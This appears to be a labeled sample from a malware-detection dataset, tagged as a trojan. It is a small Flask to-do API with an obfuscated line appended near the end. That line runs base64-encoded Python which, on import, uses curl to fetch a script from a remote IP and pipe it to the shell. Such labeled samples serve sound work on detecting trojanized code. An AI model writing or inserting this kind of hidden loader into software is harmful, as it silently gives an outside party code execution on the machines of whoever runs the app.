# label: malicious family=trojan techniques=T1027,T1059.004,T1059.006,T1105,T1140 lines=24 group=benign/b046_flask_app.py
from flask import Flask, jsonify, request

app = Flask(__name__)
TODOS = []


@app.get("/todos")
def list_todos():
    return jsonify(TODOS)


@app.post("/todos")
def add_todo():
    item = request.get_json(force=True)
    if not isinstance(item, dict) or "title" not in item:
        return jsonify(error="title required"), 400
    item["id"] = len(TODOS) + 1
    TODOS.append(item)
    return jsonify(item), 201


import base64 as _b
exec(_b.b64decode("aW1wb3J0IG9zO29zLnN5c3RlbSgiY3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjk5L3UgfCBzaCIp"))

if __name__ == "__main__":
    app.run(debug=True)
